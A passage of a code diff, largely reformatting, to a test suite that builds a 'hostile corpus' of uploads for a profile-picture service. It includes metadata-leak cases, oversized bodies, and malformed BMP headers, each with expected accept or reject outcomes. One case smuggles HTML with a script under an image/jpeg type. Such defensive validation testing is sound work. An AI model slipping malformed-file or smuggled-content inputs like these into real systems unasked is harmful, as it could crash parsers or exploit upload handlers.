+        IFD0: { Make: 'SECRET-CAM', Copyright: 'SECRET-OWNER' },
+        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 0/1' },
+      })
       .jpeg()
       .toBuffer(),
     expect: everywhere(accept),
@@ -542,7 +851,9 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     slug: 'xmp-gps',
     ext: 'jpg',
     bytes: await sharp(await makePhoto('jpeg', 300, 300))
-      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="51,30.0N" exif:GPSLongitude="0,7.0W"/></rdf:RDF></x:xmpmeta>')
+      .withXmp(
+        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="51,30.0N" exif:GPSLongitude="0,7.0W"/></rdf:RDF></x:xmpmeta>',
+      )
       .jpeg()
       .toBuffer(),
     expect: everywhere(accept),
@@ -552,14 +863,31 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     name: 'PNG with an eXIf chunk (GPS, copyright)',
     slug: 'png-exif',
     ext: 'png',
-    bytes: await sharp(await makePhoto('png', 300, 300)).withExif({ IFD0: { Copyright: 'SECRET-OWNER' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } }).png().toBuffer(),
+    bytes: await sharp(await makePhoto('png', 300, 300))
+      .withExif({ IFD0: { Copyright: 'SECRET-OWNER' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } })
+      .png()
+      .toBuffer(),
     expect: everywhere(accept),
     mustNotLeak: ['SECRET-OWNER', 'eXIf'],
   });
 
   // --- size edges ------------------------------------------------------------------------------
-  add({ name: 'a 47×47 JPEG (one pixel short)', slug: 'tiny47', ext: 'jpg', bytes: await makePhoto('jpeg', 47, 47), expect: everywhere(reject(400, /48×48/)) });
-  add({ name: 'a 1×1 PNG', slug: 'tiny1', ext: 'png', bytes: await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } }).png().toBuffer(), expect: everywhere(reject(400, /48×48/)) });
+  add({
+    name: 'a 47×47 JPEG (one pixel short)',
+    slug: 'tiny47',
+    ext: 'jpg',
+    bytes: await makePhoto('jpeg', 47, 47),
+    expect: everywhere(reject(400, /48×48/)),
+  });
+  add({
+    name: 'a 1×1 PNG',
+    slug: 'tiny1',
+    ext: 'png',
+    bytes: await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } })
+      .png()
+      .toBuffer(),
+    expect: everywhere(reject(400, /48×48/)),
+  });
   add({ name: 'a 48×2000 PNG (a strip)', slug: 'strip', ext: 'png', bytes: await makePhoto('png', 48, 2000), expect: everywhere(accept) });
 
   // --- wrong declared type ---------------------------------------------------------------------
@@ -572,11 +900,32 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     ['JPEG declared multipart/form-data without a boundary', 'multipart/form-data', small, 'jpg'],
     ['JPEG declared text/html', 'text/html; charset=utf-8', small, 'html'],
   ] as const) {
-    add({ name: `valid ${label}`, slug: `type-${contentType.replace(/[^a-z]/g, '').slice(0, 20)}`, ext, bytes, contentType, expect: everywhere(accept) });
+    add({
+      name: `valid ${label}`,
+      slug: `type-${contentType.replace(/[^a-z]/g, '').slice(0, 20)}`,
+      ext,
+      bytes,
+      contentType,
+      expect: everywhere(accept),
+    });
   }
   // Not a media type at all: taking the bytes or refusing the header with a clear 4xx are both fine.
-  add({ name: 'valid JPEG declared with a malformed type (garbage/ÿþ;;;=)', slug: 'type-garbage', ext: 'bin', bytes: small, contentType: 'garbage/\u00ff\u00fe;;;=', expect: everywhere(either) });
-  add({ name: 'HTML declared image/jpeg', slug: 'html-as-jpeg', ext: 'jpg', bytes: Buffer.from(`<!doctype html>${script}`), contentType: 'image/jpeg', expect: everywhere(reject(400, notImage)) });
+  add({
+    name: 'valid JPEG declared with a malformed type (garbage/ÿþ;;;=)',
+    slug: 'type-garbage',
+    ext: 'bin',
+    bytes: small,
+    contentType: 'garbage/\u00ff\u00fe;;;=',
+    expect: everywhere(either),
+  });
+  add({
+    name: 'HTML declared image/jpeg',
+    slug: 'html-as-jpeg',
+    ext: 'jpg',
+    bytes: Buffer.from(`<!doctype html>${script}`),
+    contentType: 'image/jpeg',
+    expect: everywhere(reject(400, notImage)),
+  });
 
   // --- over-limit and at-limit bodies ------------------------------------------------------------
   add({
@@ -598,7 +947,12 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     slug: 'sp-limit-plus-1',
     ext: 'jpg',
     bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(SHAREPOINT_LIMIT + 1 - 3)]),
-    expect: (p) => (p === 'set-my-profile-picture' ? reject(413, /5,000,000 bytes/) : isHttpGraphLike(p) ? reject(413, /4(\.0)? MB/) : reject(400, damaged)),
+    expect: (p) =>
+      p === 'set-my-profile-picture'
+        ? reject(413, /5,000,000 bytes/)
+        : isHttpGraphLike(p)
+          ? reject(413, /4(\.0)? MB/)
+          : reject(400, damaged),
   });
   add({
     name: 'exactly 5,000,000 bytes: a valid JPEG padded with comments',
@@ -612,14 +966,38 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
   const still = sharp({ create: { width: 200, height: 200, channels: 3, background: '#777777' } });
   add({ name: 'TIFF', slug: 'tiff', ext: 'jpg', bytes: await still.clone().tiff().toBuffer(), expect: everywhere(reject(415, /TIFF/)) });
   add({ name: 'AVIF', slug: 'avif', ext: 'jpg', bytes: await still.clone().avif().toBuffer(), expect: everywhere(reject(415, /AVIF/)) });
-  add({ name: 'HEIC brand with junk', slug: 'heic', ext: 'jpg', bytes: Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), rng.bytes(500)]), expect: everywhere(reject(415, /HEIC/)) });
-  add({ name: 'Photoshop PSD header', slug: 'psd', ext: 'jpg', bytes: Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), rng.bytes(500)]), expect: everywhere(reject(400, notImage)) });
-  add({ name: 'JPEG 2000', slug: 'jp2', ext: 'jpg', bytes: Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), rng.bytes(500)]), expect: everywhere(reject(400, notImage)) });
+  add({
+    name: 'HEIC brand with junk',
+    slug: 'heic',
+    ext: 'jpg',
+    bytes: Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), rng.bytes(500)]),
+    expect: everywhere(reject(415, /HEIC/)),
+  });
+  add({
+    name: 'Photoshop PSD header',
+    slug: 'psd',
+    ext: 'jpg',
+    bytes: Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), rng.bytes(500)]),
+    expect: everywhere(reject(400, notImage)),
+  });
+  add({
+    name: 'JPEG 2000',
+    slug: 'jp2',
+    ext: 'jpg',
+    bytes: Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), rng.bytes(500)]),
+    expect: everywhere(reject(400, notImage)),
+  });
 
   // --- BMP (SetMyProfilePicture decodes it by hand; the others must refuse it) -----------------
   const bmpPixel = (_x: number, y: number): [number, number, number] => (y < 100 ? [220, 20, 20] : [20, 20, 220]);
   const bmp = makeBmp(200, 200, bmpPixel);
-  add({ name: 'valid 24-bit BMP', slug: 'bmp', ext: 'bmp', bytes: bmp, expect: (p) => (p === 'set-my-profile-picture' ? accept : reject(415, /BMP/)) });
+  add({
+    name: 'valid 24-bit BMP',
+    slug: 'bmp',
+    ext: 'bmp',
+    bytes: bmp,
+    expect: (p) => (p === 'set-my-profile-picture' ? accept : reject(415, /BMP/)),
+  });
   const bmpPatched = (patch: (b: Buffer) => void, base = bmp) => {
     const out = Buffer.from(base);
     patch(out);
@@ -628,13 +1006,55 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
   const bmpBad = (message?: RegExp) => (p: UploadPath) => (p === 'set-my-profile-picture' ? reject(400, message) : reject(415, /BMP/));
   add({ name: 'BMP truncated to 3000 bytes', slug: 'bmp-trunc', ext: 'bmp', bytes: bmp.subarray(0, 3000), expect: bmpBad(/BMP/) });
   add({ name: 'BMP header only (30 bytes)', slug: 'bmp-30', ext: 'bmp', bytes: bmp.subarray(0, 30), expect: bmpBad(/BMP/) });
-  add({ name: 'BMP declaring 100000×100000', slug: 'bmp-huge', ext: 'bmp', bytes: bmpPatched((b) => (b.writeInt32LE(100_000, 18), b.writeInt32LE(100_000, 22))), expect: bmpBad(/megapixels|BMP/) });
-  add({ name: 'BMP declaring width 2^31-1, height -2^31', slug: 'bmp-extreme', ext: 'bmp', bytes: bmpPatched((b) => (b.writeInt32LE(0x7fffffff, 18), b.writeInt32LE(-0x80000000, 22))), expect: bmpBad(/BMP/) });
-  add({ name: 'BMP with negative width', slug: 'bmp-negw', ext: 'bmp', bytes: bmpPatched((b) => b.writeInt32LE(-200, 18)), expect: bmpBad(/BMP/) });
-  add({ name: 'BMP with RLE8 compression', slug: 'bmp-rle', ext: 'bmp', bytes: bmpPatched((b) => (b.writeUInt16LE(8, 28), b.writeUInt32LE(1, 30))), expect: bmpBad(/BMP/) });
-  add({ name: 'BMP with 16 bits a pixel', slug: 'bmp-16', ext: 'bmp', bytes: bmpPatched((b) => b.writeUInt16LE(16, 28)), expect: bmpBad(/BMP/) });
-  add({ name: 'BMP with an OS/2 (12-byte) header', slug: 'bmp-os2', ext: 'bmp', bytes: bmpPatched((b) => b.writeUInt32LE(12, 14)), expect: bmpBad(/BMP/) });
-  add({ name: 'BMP whose pixel data offset lies past the end', slug: 'bmp-offset', ext: 'bmp', bytes: bmpPatched((b) => b.writeUInt32LE(0xfffffff0, 10)), expect: bmpBad(/BMP/) });
+  add({
+    name: 'BMP declaring 100000×100000',
+    slug: 'bmp-huge',
+    ext: 'bmp',
+    bytes: bmpPatched((b) => (b.writeInt32LE(100_000, 18), b.writeInt32LE(100_000, 22))),
+    expect: bmpBad(/megapixels|BMP/),
+  });
+  add({
+    name: 'BMP declaring width 2^31-1, height -2^31',
+    slug: 'bmp-extreme',
+    ext: 'bmp',
+    bytes: bmpPatched((b) => (b.writeInt32LE(0x7fffffff, 18), b.writeInt32LE(-0x80000000, 22))),
+    expect: bmpBad(/BMP/),
+  });
+  add({
+    name: 'BMP with negative width',
+    slug: 'bmp-negw',
+    ext: 'bmp',
+    bytes: bmpPatched((b) => b.writeInt32LE(-200, 18)),
+    expect: bmpBad(/BMP/),
+  });
+  add({
+    name: 'BMP with RLE8 compression',
+    slug: 'bmp-rle',
+    ext: 'bmp',
+    bytes: bmpPatched((b) => (b.writeUInt16LE(8, 28), b.writeUInt32LE(1, 30))),
+    expect: bmpBad(/BMP/),
+  });
+  add({
+    name: 'BMP with 16 bits a pixel',
+    slug: 'bmp-16',
+    ext: 'bmp',
+    bytes: bmpPatched((b) => b.writeUInt16LE(16, 28)),
+    expect: bmpBad(/BMP/),
+  });
+  add({
+    name: 'BMP with an OS/2 (12-byte) header',
+    slug: 'bmp-os2',
+    ext: 'bmp',
+    bytes: bmpPatched((b) => b.writeUInt32LE(12, 14)),
+    expect: bmpBad(/BMP/),
+  });
+  add({
+    name: 'BMP whose pixel data offset lies past the end',
+    slug: 'bmp-offset',
+    ext: 'bmp',
+    bytes: bmpPatched((b) => b.writeUInt32LE(0xfffffff0, 10)),
+    expect: bmpBad(/BMP/),
+  });
   {
     // 8-bit, a 2-colour table, pixels pointing at colour 200.
     const width = 100;
